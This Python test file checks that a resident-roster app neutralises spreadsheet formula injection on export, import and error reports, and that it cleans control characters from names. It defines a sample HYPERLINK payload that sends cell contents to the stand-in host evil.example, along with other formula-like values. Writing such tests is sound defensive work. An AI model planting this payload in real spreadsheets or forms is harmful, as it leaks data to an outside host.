"""Formula injection through the roster: the export writes a name that looks like a formula
as text (never a live formula), the report does the same with the rows it echoes, and the
import refuses such a name; the import's bulk path cleans text like every other write."""

import io
import zipfile

import openpyxl
import pytest

from banshi.people.models import Resident
from banshi.people.roster import columns, roster_export
from banshi.people.roster.exporting import CommandLineActor
from tests.people.test_roster_import import counts, person, run, write_csv

EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'


@pytest.mark.parametrize("name", [EVIL, "+1+1", "-1+1", "@SUM(A1)"])
def test_export_writes_a_formula_looking_name_as_text(world, name):
    resident = world.residents[world.grid1.code][0]
    Resident.objects.filter(pk=resident.pk).update(name=name)  # as an old row might hold it
    out = io.BytesIO()
    roster_export(user=CommandLineActor(), region=world.street, out=out)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    (cell,) = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == name]
    assert cell.data_type == "s" and cell.quotePrefix  # text, shown and edited as text
    xml = _sheet_xml(out.getvalue())
    assert "<f>" not in xml  # no formula anywhere in the sheet


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("name", [EVIL, "+张三", "-张三", "@张三"])
def test_import_refuses_a_formula_looking_name(world, tmp_path, name):
    people = [person(i, world) for i in range(1, 4)]
    people[1][columns.NAME] = name
    before = counts()
    result = run(write_csv(tmp_path / "r.csv", people))
    assert not result.committed and counts() == before
    assert list(result.errors) == [3]
    column, message = result.errors[3][0]
    assert column == columns.NAME and "=" in message


def test_the_error_report_echoes_a_formula_as_text(world, tmp_path):
    people = [person(i, world) for i in range(1, 3)]
    people[0][columns.NAME] = EVIL
    result = run(write_csv(tmp_path / "r.csv", people))
    with open(result.report_path, "rb") as f:
        data = f.read()
    assert "<f>" not in _sheet_xml(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert EVIL in [c.value for row in sheet.iter_rows() for c in row]


def test_the_bulk_import_cleans_names(world, tmp_path):
    people = [person(i, world) for i in range(1, 3)]
    people[0][columns.NAME] = "张\x0b三\u202e"
    people[1][columns.NAME] = "Mu\u0308ller"
    assert run(write_csv(tmp_path / "r.csv", people)).created == 2
    names = set(Resident.objects.values_list("name", flat=True))
    assert {"张三", "Müller"} <= names
